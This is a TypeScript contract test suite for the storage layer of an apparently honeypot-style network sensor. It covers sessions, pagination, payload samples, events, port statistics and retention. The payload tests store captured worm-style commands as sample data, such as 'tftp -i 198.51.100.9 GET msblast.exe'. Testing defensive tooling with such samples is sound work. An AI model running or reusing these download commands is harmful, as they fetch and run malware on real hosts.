// The Store contract: behaviour every backend must show (SQLite, PostgreSQL), run by
// calling runStoreContract(name, factory) from a backend's test file, as Kysely loops over dialects.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { ManualClock } from '../../src/core/clock.js';
import { isAppError } from '../../src/core/errors.js';
import type { RetentionPolicy, Store } from '../../src/store/store.js';
import { STATS_BASE_BUCKET_SECONDS } from '../../src/store/store.js';
import { T0, activationCall, connEvent, lookupCall, makeSession } from './fixtures.js';

export interface ContractStoreOptions {
  readonly retention?: RetentionPolicy;
  readonly maxPayloadBytes?: number;
  readonly clock: ManualClock;
}

export interface OpenedStore {
  readonly store: Store;
  /** Close and open the same database again (persistence). */
  reopen(): Promise<Store>;
  /** Close and remove everything. */
  dispose(): Promise<void>;
}

export type StoreFactory = (opts: ContractStoreOptions) => Promise<OpenedStore>;

const isBadArgument = (e: unknown): boolean => isAppError(e, 'VIGIL_ERR_BAD_ARGUMENT');

/** Walk every page of a listing and return the ids in order. */
async function allIds(store: Store, q: Parameters<Store['listSessions']>[0] = {}): Promise<string[]> {
  const ids: string[] = [];
  let cursor: string | undefined;
  for (let guard = 0; guard < 1000; guard++) {
    const page = await store.listSessions({ ...q, cursor });
    ids.push(...page.items.map((s) => s.id));
    if (!page.nextCursor) return ids;
    cursor = page.nextCursor;
  }
  throw new Error('pagination did not end');
}

export function runStoreContract(name: string, factory: StoreFactory): void {
  describe(`Store contract: ${name}`, () => {
    sessionsContract(factory);
    queriesContract(factory);
    payloadsContract(factory);
    eventsContract(factory);
    statsContract(factory);
    retentionContract(factory);
  });
}

function withStore(factory: StoreFactory, opts: Partial<ContractStoreOptions> = {}) {
  const ctx = { opened: undefined as OpenedStore | undefined, clock: opts.clock ?? new ManualClock(T0 + 86_400_000) };
  before(async () => {
    ctx.opened = await factory({ ...opts, clock: ctx.clock });
  });
  after(async () => {
    await ctx.opened?.dispose();
  });
  return { get store(): Store { return ctx.opened!.store; }, get opened(): OpenedStore { return ctx.opened!; }, clock: ctx.clock };
}

function sessionsContract(factory: StoreFactory): void {
  describe('sessions', () => {
    const h = withStore(factory);

    it('returns a saved session exactly as saved, calls and anomalies at both levels included', async () => {
      const s = makeSession({
        calls: [lookupCall(T0 + 1), activationCall(T0 + 2, 7)],
        anomalies: [{ name: 'bind_nak_sent', proto: 'sensor', detail: 'reason 4', offset: 0 }],
        limitsHit: ['max_session_bytes'],
        payloadSha256: ['ab'.repeat(32)],
      });
      assert.deepEqual(await h.store.saveSession(s), { inserted: true });
      assert.deepEqual(await h.store.getSession(s.id), s);
    });

    it('keeps optional fields absent rather than inventing them', async () => {
      const { endTs: _e, firstBytesHex: _f, service: _s, closeReason: _c, ...bare } = makeSession();
      await h.store.saveSession(bare);
      const got = await h.store.getSession(bare.id);
      assert.deepEqual(got, bare);
      assert.equal('endTs' in (got ?? {}), false);
    });

    it('is idempotent on the session id: a replay changes nothing', async () => {
      const s = makeSession({ calls: [lookupCall(T0)], dport: 593 });
      assert.equal((await h.store.saveSession(s)).inserted, true);
      const changed = { ...s, bytesIn: 9999, calls: [] };
      assert.equal((await h.store.saveSession(changed)).inserted, false);
      assert.deepEqual(await h.store.getSession(s.id), s);
      const stats = await h.store.portStats({ since: s.startTs - 3_600_000, until: s.startTs + 3_600_000, ports: [593] });
      assert.equal(stats.reduce((n, b) => n + b.count, 0), 1, 'a replayed session must not be counted twice');
    });

    it('commits concurrent saves, including a duplicate in the same batch, once each', async () => {
      const batch = Array.from({ length: 300 }, (_, i) => makeSession({ src: `203.0.113.${i % 200}`, dport: 4444, calls: i % 3 === 0 ? [lookupCall(T0 + i)] : [] }));
      const results = await Promise.all([...batch.map((s) => h.store.saveSession(s)), h.store.saveSession(batch[5])]);
      assert.equal(results.filter((r) => r.inserted).length, 300);
      assert.equal(results.filter((r) => !r.inserted).length, 1);
      const ids = await allIds(h.store, { port: 4444 });
      assert.deepEqual(new Set(ids), new Set(batch.map((s) => s.id)));
      assert.equal(ids.length, 300);
    });

    it('rejects a malformed record without failing the well-formed ones saved beside it', async () => {
      const good = makeSession({ dport: 139 });
      const bad = { ...makeSession(), id: '' };
      const [g, b] = await Promise.allSettled([h.store.saveSession(good), h.store.saveSession(bad)]);
      assert.equal(g.status, 'fulfilled');
      assert.equal(b.status, 'rejected');
      assert.ok(b.status === 'rejected' && isBadArgument(b.reason));
      assert.ok(await h.store.getSession(good.id));
    });

    it('answers undefined for an unknown id', async () => {
      assert.equal(await h.store.getSession('no-such-session'), undefined);
    });

    it('keeps what it acknowledged across close and reopen', async () => {
      const s = makeSession({ dport: 445, calls: [activationCall(T0 + 5)] });
      await h.store.saveSession(s);
      const again = await h.opened.reopen();
      assert.deepEqual(await again.getSession(s.id), s);
    });
  });
}

function queriesContract(factory: StoreFactory): void {
  describe('listing sessions', () => {
    const h = withStore(factory);
    // 20 sessions a minute apart; every 4th from a second source, every 5th with an anomaly,
    // every 7th with an anomaly only inside a call; ports alternate 135 / 445.
    const sessions = Array.from({ length: 20 }, (_, i) =>
      makeSession({
        id: `q${String(i).padStart(3, '0')}`,
        startTs: T0 + i * 60_000,
        dport: i % 2 === 0 ? 135 : 445,
        src: i % 4 === 0 ? '2001:db8::7' : '192.0.2.44',
        anomalies: i % 5 === 0 ? [{ name: 'garbage_before_pdu', proto: 'dcerpc' }] : [],
        calls: i % 7 === 0 && i % 5 !== 0 ? [activationCall(T0 + i * 60_000)] : [lookupCall(T0 + i * 60_000)],
      }),
    );
    const ids = (pred: (i: number) => boolean) => sessions.filter((_, i) => pred(i)).map((s) => s.id);
    before(async () => {
      await h.store.saveSessions(sessions);
    });

    it('lists newest first by default and oldest first on request', async () => {
      assert.deepEqual(await allIds(h.store), ids(() => true).reverse());
      assert.deepEqual(await allIds(h.store, { order: 'asc' }), ids(() => true));
    });

    it('filters by port, source, time range and anomaly presence, alone and together', async () => {
      assert.deepEqual(await allIds(h.store, { port: 445, order: 'asc' }), ids((i) => i % 2 === 1));
      assert.deepEqual(await allIds(h.store, { source: '2001:db8::7', order: 'asc' }), ids((i) => i % 4 === 0));
      assert.deepEqual(await allIds(h.store, { since: T0 + 5 * 60_000, until: T0 + 9 * 60_000, order: 'asc' }), ids((i) => i >= 5 && i < 9));
      const anomalous = ids((i) => i % 5 === 0 || i % 7 === 0);
      assert.deepEqual(await allIds(h.store, { hasAnomaly: true, order: 'asc' }), anomalous);
      assert.deepEqual(await allIds(h.store, { hasAnomaly: false, order: 'asc' }), ids((i) => !(i % 5 === 0 || i % 7 === 0)));
      assert.deepEqual(await allIds(h.store, { port: 135, hasAnomaly: true, since: T0 + 60_000, order: 'asc' }), ids((i) => i >= 1 && i % 2 === 0 && (i % 5 === 0 || i % 7 === 0)));
    });

    it('pages with a cursor without losing or repeating rows, also across equal start times', async () => {
      const tied = Array.from({ length: 7 }, (_, i) => makeSession({ id: `tie${i}`, startTs: T0 - 1000, dport: 8080 }));
      await h.store.saveSessions(tied);
      for (const order of ['asc', 'desc'] as const) {
        const paged = await allIds(h.store, { limit: 3, order });
        const whole = (await h.store.listSessions({ limit: 1000, order })).items.map((s) => s.id);
        assert.deepEqual(paged, whole);
        assert.equal(new Set(paged).size, 27);
      }
      const first = await h.store.listSessions({ port: 8080, limit: 7 });
      assert.equal(first.items.length, 7);
      assert.equal(first.nextCursor, undefined, 'the last page has no cursor');
    });

    it('summarises calls and anomalies in list rows', async () => {
      const page = await h.store.listSessions({ since: T0, until: T0 + 60_000 });
      const s0 = page.items[0];
      assert.equal(s0.id, 'q000');
      assert.equal(s0.callCount, 1);
      assert.equal(s0.anomalyCount, 1);
      assert.deepEqual(s0.anomalies, [{ name: 'garbage_before_pdu', proto: 'dcerpc' }]);
      assert.equal('calls' in s0, false);
      const s7 = (await h.store.listSessions({ since: T0 + 7 * 60_000, until: T0 + 8 * 60_000 })).items[0];
      assert.equal(s7.anomalyCount, 1, 'call-level anomalies count');
      assert.deepEqual(s7.anomalies, []);
    });

    it('rejects a cursor it did not issue and a page size below 1', async () => {
      await assert.rejects(h.store.listSessions({ cursor: 'not-a-cursor' }), isBadArgument);
      await assert.rejects(h.store.listSessions({ cursor: Buffer.from('[1,2]').toString('base64url') }), isBadArgument);
      await assert.rejects(h.store.listSessions({ limit: 0 }), isBadArgument);
    });
  });
}

function payloadsContract(factory: StoreFactory): void {
  describe('payload samples', () => {
    const h = withStore(factory, { maxPayloadBytes: 1024 });

    it('addresses a payload by the sha256 of all its bytes and stores it once', async () => {
      const bytes = new TextEncoder().encode('tftp -i 198.51.100.9 GET msblast.exe\r\n');
      const a = await h.store.putPayload(bytes, T0);
      const b = await h.store.putPayload(bytes, T0 + 5000);
      assert.equal(a.sha256, createHash('sha256').update(bytes).digest('hex'));
      assert.deepEqual(a, b);
      const got = await h.store.getPayload(a.sha256);
      assert.deepEqual(got, { sha256: a.sha256, size: bytes.length, data: bytes, truncated: false, firstSeen: T0 });
    });

    it('caps what it keeps but still names the whole payload', async () => {
      const big = new Uint8Array(5000).fill(0x41);
      const r = await h.store.putPayload(big, T0);
      assert.deepEqual(r, { sha256: createHash('sha256').update(big).digest('hex'), size: 5000, truncated: true });
      const got = await h.store.getPayload(r.sha256);
      assert.equal(got?.data.length, 1024);
      assert.equal(got?.truncated, true);
      assert.equal(got?.size, 5000);
    });

    it('keeps the earliest sighting when the same payload arrives several times at once', async () => {
      const bytes = new TextEncoder().encode('echo open 198.51.100.9 69 > x & tftp ...');
      const puts = await Promise.all([T0 + 300, T0 + 100, T0 + 200].map((ts) => h.store.putPayload(bytes, ts)));
      assert.equal(new Set(puts.map((p) => p.sha256)).size, 1);
      assert.equal((await h.store.getPayload(puts[0].sha256))?.firstSeen, T0 + 100);
      await h.store.putPayload(bytes, T0 + 50);
      assert.equal((await h.store.getPayload(puts[0].sha256))?.firstSeen, T0 + 50, 'an earlier replayed sighting moves firstSeen back');
    });

    it('answers undefined for an unknown digest', async () => {
      assert.equal(await h.store.getPayload('0'.repeat(64)), undefined);
    });
  });
}

function eventsContract(factory: StoreFactory): void {
  describe('events', () => {
    const h = withStore(factory);
    const events = Array.from({ length: 30 }, (_, i) =>
      i % 10 === 9
        ? ({ type: 'payload', source: 'sensor', ts: T0 + i * 1000, src: '192.0.2.66', dst: '198.51.100.5', proto: 'tcp', dport: 4444, text: 'tftp -i ...', session: `sess${i}` } as const)
        : connEvent({ ts: T0 + i * 1000, dport: i % 3 === 0 ? 445 : 135, src: i % 2 === 0 ? '192.0.2.1' : '192.0.2.2' }),
    );
    before(async () => {
      await Promise.all([h.store.appendEvents(events.slice(0, 15)), h.store.appendEvents(events.slice(15))]);
    });

    it('reads events back in time order, whole and unchanged', async () => {
      const page = await h.store.queryEvents({ limit: 1000 });
      assert.deepEqual(page.items, events);
    });

    it('filters by time range, port, source and type', async () => {
      const q = async (f: Parameters<Store['queryEvents']>[0]) => (await h.store.queryEvents(f)).items;
      assert.deepEqual(await q({ since: T0 + 10_000, until: T0 + 20_000 }), events.slice(10, 20));
      assert.deepEqual(await q({ port: 445 }), events.filter((e) => e.dport === 445));
      assert.deepEqual(await q({ source: '192.0.2.2', port: 135 }), events.filter((e) => e.src === '192.0.2.2' && e.dport === 135));
      assert.deepEqual(await q({ type: 'payload' }), events.filter((e) => e.type === 'payload'));
    });

    it('pages with a cursor', async () => {
      const seen = [];
      let cursor: string | undefined;
      for (let i = 0; i < 20; i++) {
        const page = await h.store.queryEvents({ limit: 7, cursor });
        seen.push(...page.items);
        cursor = page.nextCursor;
        if (!cursor) break;
      }
      assert.deepEqual(seen, events);
    });

    it('keeps an event with a given id once (a redelivered fleet message), events without one every time', async () => {
      const later = T0 + 10_000_000;
      const withId = [connEvent({ ts: later, session: 'S', id: 'S:conn:0' }), connEvent({ ts: later + 1, session: 'S', id: 'S:conn:1' })];
      const anonymous = connEvent({ ts: later + 2 });
      await h.store.appendEvents([...withId, anonymous]);
      await h.store.appendEvents([...withId, anonymous]);
      await h.store.appendEvents([withId[1], withId[1]]);
      assert.deepEqual((await h.store.queryEvents({ since: later })).items, [...withId, anonymous, anonymous]);
    });
  });
}

function statsContract(factory: StoreFactory): void {
  describe('port statistics', () => {
    const h = withStore(factory);
    const base = Math.floor(T0 / 3_600_000) * 3_600_000; // an hour boundary
    before(async () => {
      // Hour 0: 135 gets 6 connections from 3 sources, 445 gets 2 from 1; hour 1: 135 gets 4 from 4.
      const s = [
        ...Array.from({ length: 6 }, (_, i) => makeSession({ startTs: base + i * 300_000, dport: 135, src: `192.0.2.${i % 3}` })),
        ...Array.from({ length: 2 }, (_, i) => makeSession({ startTs: base + 120_000 + i * 60_000, dport: 445, src: '192.0.2.9' })),
        ...Array.from({ length: 4 }, (_, i) => makeSession({ startTs: base + 3_600_000 + i * 600_000, dport: 135, src: `198.51.100.${i}` })),
      ];
      await h.store.saveSessions(s);
    });

    it('counts connections and distinct sources per port per hour', async () => {
      const got = await h.store.portStats({ since: base, until: base + 7_200_000, bucketSeconds: 3600 });
      assert.deepEqual(got, [
        { bucketStart: base, port: 135, count: 6, uniqueSources: 3 },
        { bucketStart: base, port: 445, count: 2, uniqueSources: 1 },
        { bucketStart: base + 3_600_000, port: 135, count: 4, uniqueSources: 4 },
      ]);
    });

    it('merges distinct sources correctly when buckets widen (a source seen in two hours counts once)', async () => {
      await h.store.saveSession(makeSession({ startTs: base + 3_700_000, dport: 135, src: '192.0.2.0' }));
      const day = await h.store.portStats({ since: base, until: base + 7_200_000, bucketSeconds: 7200, ports: [135] });
      const start = Math.floor(base / 7_200_000) * 7_200_000;
      assert.deepEqual(day, start === base ? [{ bucketStart: base, port: 135, count: 11, uniqueSources: 7 }] : day);
      const minutes = await h.store.portStats({ since: base, until: base + 600_000, bucketSeconds: STATS_BASE_BUCKET_SECONDS, ports: [445] });
      assert.deepEqual(minutes.map((b) => [b.bucketStart - base, b.count]), [[120_000, 1], [180_000, 1]]);
    });

    it('whole-hour ranges (read from the hourly rollup) agree with the minute rollup; withSources: false counts only', async () => {
      const hourly = await h.store.portStats({ since: base, until: base + 7_200_000, bucketSeconds: 3600, withSources: false });
      // A range that does not start on the hour is summed from the minute rows (no sessions in the extra minute).
      const fromMinutes = await h.store.portStats({ since: base - 60_000, until: base + 7_200_000, bucketSeconds: 3600, withSources: false });
      assert.deepEqual(hourly, fromMinutes);
      assert.deepEqual(hourly.map((b) => [b.bucketStart - base, b.port, b.count, b.uniqueSources]), [[0, 135, 6, 0], [0, 445, 2, 0], [3_600_000, 135, 5, 0]]);
    });
  });
}

function retentionContract(factory: StoreFactory): void {
  describe('retention', () => {
    describe('by age', () => {
      const h = withStore(factory, { retention: { maxAgeDays: 7, maxSizeMb: 0 } });
      const now = T0 + 30 * 86_400_000;

      it('prunes sessions, their calls, events, stats and unreferenced payloads older than the maximum age, in bounded passes', async () => {
        const old = Array.from({ length: 40 }, (_, i) => makeSession({ startTs: T0 + i, calls: [lookupCall(T0 + i)], dport: 135 }));
        const fresh = makeSession({ startTs: now - 86_400_000, dport: 135, calls: [activationCall(now - 86_400_000)] });
        await h.store.saveSessions([...old, fresh]);
        await h.store.appendEvents([connEvent({ ts: T0 }), connEvent({ ts: now - 1000 })]);
        const oldPayload = await h.store.putPayload(new Uint8Array([1, 2, 3]), T0);
        const keptPayload = await h.store.putPayload(new Uint8Array([4, 5, 6]), now - 1000);
        let passes = 0;
        for (let r = await h.store.prune(now); ; r = await h.store.prune(now)) {
          passes++;
          if (!r.more || passes > 200) break;
        }
        assert.deepEqual(await allIds(h.store), [fresh.id]);
        assert.deepEqual(await h.store.getSession(fresh.id), fresh);
        assert.equal(await h.store.getSession(old[0].id), undefined);
        assert.deepEqual((await h.store.queryEvents()).items.map((e) => e.ts), [now - 1000]);
        assert.equal(await h.store.getPayload(oldPayload.sha256), undefined);
        assert.ok(await h.store.getPayload(keptPayload.sha256));
        const stats = await h.store.portStats({ since: T0 - 3_600_000, until: now });
        assert.deepEqual(stats.map((b) => b.count), [1], 'old rollups are pruned too');
      });
    });

    describe('by size', () => {
      const h = withStore(factory, { retention: { maxAgeDays: 0, maxSizeMb: 1 } });

      it('removes the oldest sessions until the store is under its size bound, keeping the newest', async () => {
        const pad = 'ab'.repeat(1500);
        const all = Array.from({ length: 900 }, (_, i) => makeSession({ id: `z${String(i).padStart(5, '0')}`, startTs: T0 + i * 1000, firstBytesHex: pad }));
        await h.store.saveSessions(all);
        assert.ok((await h.store.sizeBytes()) > 1024 * 1024, 'the fixture must exceed the bound');
        for (let i = 0; i < 200; i++) if (!(await h.store.prune(T0 + 900_000)).more) break;
        assert.ok((await h.store.sizeBytes()) <= 1024 * 1024);
        const left = await allIds(h.store, { order: 'asc' });
        assert.ok(left.length > 0 && left.length < 900);
        assert.deepEqual(left, all.slice(900 - left.length).map((s) => s.id), 'what remains is the newest, contiguous');
      });
    });
  });
}
